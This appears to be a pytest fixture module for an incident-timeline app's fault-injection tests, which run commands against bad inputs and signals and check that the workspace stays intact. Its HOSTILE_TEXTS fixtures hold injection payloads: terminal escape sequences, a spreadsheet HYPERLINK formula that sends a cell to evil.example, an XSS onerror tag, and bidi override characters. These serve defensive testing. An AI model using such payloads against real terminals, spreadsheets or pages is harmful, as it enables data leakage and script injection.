"""The fault-injection corpus: every command run as a user runs it (a real process, a real
workspace file), against bad inputs, full disks and signals.

Every case asserts the same four promises (see docs/reliability.md): no Python traceback on
the terminal, the right exit status, a message in words (one line, naming the file), and the
workspace left as it was (its user data compared before and after).

``ITX_APP_ROOT`` runs the corpus against another checkout (e.g. main, to see which cases
fail there).
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path

import duckdb
import pytest

ROOT = Path(__file__).resolve().parents[2]
APP_ROOT = Path(os.environ.get("ITX_APP_ROOT") or ROOT)
FIXTURES = ROOT / "tests" / "fixtures"
sys.path.insert(0, str(ROOT / "tests" / "core"))

from v1_statuses import status  # noqa: E402

from .processes import alive, children  # noqa: E402, F401 - for the tests

EXIT_ERROR, EXIT_INTERNAL, EXIT_CANCELLED = 1, 70, 130

#: post texts that attack whatever shows them: a terminal, a spreadsheet, a report's layout
HOSTILE_TEXTS = {
    "900000000000000001": "\x1b]0;pwned\x07\x1b[2J\x1b[31mred alert\x9b31m and a bell\x07",
    "900000000000000002": '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "900000000000000003": "+1 and -1 and @everyone",
    "900000000000000004": "prices \u202eevil reversed\u202c and \u2067unclosed isolate",
    "900000000000000005": "<img src=x onerror=alert(1)> <b>bold</b> &amp;",
}
HOSTILE_HANDLE = "hostile_user"


@dataclass
class Run:
    args: tuple[str, ...]
    returncode: int
    stdout: str
    stderr: str

    @property
    def output(self) -> str:
        return self.stdout + self.stderr


class Env:
    """Where one test's processes keep their files: their own temporary folder, their own
    home (the error logs land in it)."""

    def __init__(self, base: Path) -> None:
        self.base = base
        self.tmp = base / "tmp"
        self.home = base / "home"
        self.tmp.mkdir(parents=True, exist_ok=True)
        self.home.mkdir(parents=True, exist_ok=True)

    def environ(self, **extra: str) -> dict[str, str]:
        env = {k: v for k, v in os.environ.items() if not k.startswith("ITX_")}
        env.update(
            QT_QPA_PLATFORM="offscreen",
            TMPDIR=str(self.tmp),
            HOME=str(self.home),
            XDG_STATE_HOME=str(self.home / "state"),
            XDG_DATA_HOME=str(self.home / "data"),
            PYTHONPATH=str(APP_ROOT),
        )
        env.update(extra)
        return env

    def command(self, *args: str) -> list[str]:
        return [sys.executable, "-m", "app", *args]

    def run(self, *args: str, timeout: float = 300, stdin=None, **extra: str) -> Run:
        """Run a command to its end. On ``timeout`` its whole process group is killed (the
        processes it left behind would otherwise hold its output open) and the test fails."""
        p = subprocess.Popen(
            self.command(*args),
            cwd=self.base,
            env=self.environ(**extra),
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            stdin=stdin if stdin is not None else subprocess.DEVNULL,
            text=True,
            start_new_session=True,
        )
        try:
            return collect(p, timeout, f"{args[0]} did not finish within {timeout} s (a hang)")
        finally:
            kill_group(p)  # whatever the command left running (it must leave nothing)

    def start(self, *args: str, **extra: str) -> subprocess.Popen:
        return subprocess.Popen(
            self.command(*args),
            cwd=self.base,
            env=self.environ(**extra),
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            stdin=subprocess.DEVNULL,
            text=True,
            start_new_session=True,
        )

    def logs(self) -> list[Path]:
        return sorted((self.home / "state").rglob("*.log"))

    def leftovers(self) -> list[str]:
        """What runs left in the temporary folder (pytest's own folders aside)."""
        return sorted(p.name for p in self.tmp.iterdir())


@pytest.fixture
def env(tmp_path) -> Env:
    return Env(tmp_path)


def assert_worded(run: Run, status: int = EXIT_ERROR, *, mentions: tuple[str, ...] = ()) -> str:
    """The run failed as promised: the exit status, no traceback, one line in words on
    stderr (naming what it is about); returns that line."""
    assert "Traceback" not in run.output, run.output
    assert run.returncode == status, (run.returncode, run.output)
    lines = [line for line in run.stderr.splitlines() if line.strip()]
    assert lines, "no message at all"
    message = lines[-1]
    assert message.startswith("incident-timeline: "), run.stderr
    for word in mentions:
        assert word.lower() in message.lower(), (word, message)
    assert "Error:" not in message and "Exception" not in message, message
    return message


def assert_ok(run: Run) -> None:
    assert "Traceback" not in run.output, run.output
    assert run.returncode == 0, run.output


# ---- workspaces ---------------------------------------------------------------------------------

USER_TABLES = (
    "posts",
    "imports",
    "sentiment",
    "annotations",
    "sentiment_labels",
    "chronicle_edits",
    "dismissed_suggestions",
)


def digest(path: Path) -> dict[str, str]:
    """The user data of a workspace (the rollups, derived and rebuilt at will, aside)."""
    out = {}
    with duckdb.connect(str(path), read_only=True) as con:
        present = {r[0] for r in con.execute("SELECT table_name FROM duckdb_tables()").fetchall()}
        for table in USER_TABLES:
            if table in present:
                out[table] = con.execute(
                    f"SELECT count(*) || ':' || coalesce(md5(string_agg(t::VARCHAR, '|' ORDER BY t::VARCHAR)), '') FROM {table} t"
                ).fetchone()[0]
        out["meta"] = json.dumps(
            con.execute("SELECT key, value FROM meta WHERE key NOT LIKE 'rollup%' ORDER BY key").fetchall()
        )
    return out


def post_count(path: Path) -> int:
    with duckdb.connect(str(path), read_only=True) as con:
        return con.execute("SELECT count(*) FROM posts").fetchone()[0]


def unscored(path: Path) -> int:
    """What a scoring run still has to do, as the app counts it (texts in the sentiment's
    scope without scores, and texts whose language is not checked yet)."""
    from app.core.sentiment import missing_count
    from app.core.store import Workspace

    with Workspace.open(path, read_only=True) as ws:
        return missing_count(ws)


def write_statuses(path: Path, statuses: list[dict]) -> Path:
    path.write_text("".join(json.dumps(s) + "\n" for s in statuses), encoding="utf-8")
    return path


def hostile_statuses(t0: float = 1384358400.0) -> list[dict]:
    return [
        status(pid, t0 + 60 * i, HOSTILE_HANDLE, text, followers=1000 + i)
        for i, (pid, text) in enumerate(HOSTILE_TEXTS.items())
    ]


@pytest.fixture(scope="session")
def base_workspace(tmp_path_factory) -> Path:
    """A small scored workspace: a real twarc2 archive and five hostile posts."""
    base = tmp_path_factory.mktemp("base")
    e = Env(base)
    hostile = write_statuses(base / "hostile.jsonl", hostile_statuses())
    ws = base / "base.duckdb"
    assert_ok(e.run("import", str(ws), str(FIXTURES / "twarc-csv" / "noflat.jsonl"), str(hostile)))
    return ws


@pytest.fixture
def workspace(base_workspace, tmp_path) -> Path:
    """A copy of the base workspace for one test."""
    ws = tmp_path / "incident.duckdb"
    shutil.copy(base_workspace, ws)
    return ws


@pytest.fixture(scope="session")
def big_archive(tmp_path_factory) -> Path:
    """A v1.1 archive large enough that its import and scoring take seconds (the
    benchmarks' generator: half retweets, many distinct texts)."""
    base = tmp_path_factory.mktemp("big")
    out = base / "v1_60k.jsonl"
    subprocess.run(
        [
            sys.executable,
            str(ROOT / "bench" / "generate_archive.py"),
            "--posts",
            "60000",
            "--format",
            "v1",
            "-o",
            str(out),
            "--quiet",
        ],
        check=True,
        capture_output=True,
    )
    return out


def wait_for(predicate, timeout: float = 60.0, step: float = 0.05) -> bool:
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        if predicate():
            return True
        time.sleep(step)
    return False


def interrupt(p: subprocess.Popen, sig: int = signal.SIGINT, timeout: float = 120) -> Run:
    """Send ``sig`` to a command started with :meth:`Env.start` and collect its end; what it
    leaves running is killed with its process group afterwards (so a left-over worker
    cannot hang the test; the tests check for such workers before this). SIGINT goes to
    the whole process group, as a terminal's Ctrl-C does; other signals to the command."""
    if sig == signal.SIGINT:
        os.killpg(p.pid, sig)
    else:
        p.send_signal(sig)
    return collect(p, timeout, f"the command did not end within {timeout} s of the signal")


def collect(p: subprocess.Popen, timeout: float, hang: str) -> Run:
    """The command's end and output; on ``timeout`` its process group is killed (what it
    left running would hold its output open) and the test fails with ``hang``."""
    try:
        out, err = p.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        kill_group(p)
        p.communicate()
        pytest.fail(hang)
    args = tuple(p.args[3:]) if isinstance(p.args, list) else ()
    return Run(args, p.returncode, out, err)


def kill_group(p: subprocess.Popen) -> None:
    with contextlib.suppress(ProcessLookupError, PermissionError):
        os.killpg(p.pid, signal.SIGKILL)
